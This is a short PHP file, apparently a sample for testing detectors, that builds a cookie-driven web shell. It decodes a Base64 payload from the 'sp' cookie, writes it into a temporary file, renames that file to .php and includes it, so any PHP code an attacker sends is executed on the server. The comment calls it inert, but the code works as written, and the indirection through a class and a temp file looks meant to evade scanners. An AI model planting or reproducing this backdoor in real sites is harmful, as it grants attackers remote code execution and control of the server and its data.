<?php
// inert sample: a class keeps the cookie's Base64 payload in a temporary file, returns its path,
// and the caller gives the file a script's name before including it
class Spool {
    public function put($blob) {
        $p = tempnam(sys_get_temp_dir(), 'sp');
        $h = fopen($p, 'w');
        fwrite($h, '<?php ' . $blob);
        fclose($h);
        return $p;
    }
}
$s = new Spool();
$tmp = $s->put(base64_decode($_COOKIE['sp']));
rename($tmp, $tmp . '.php');
include $tmp . '.php';
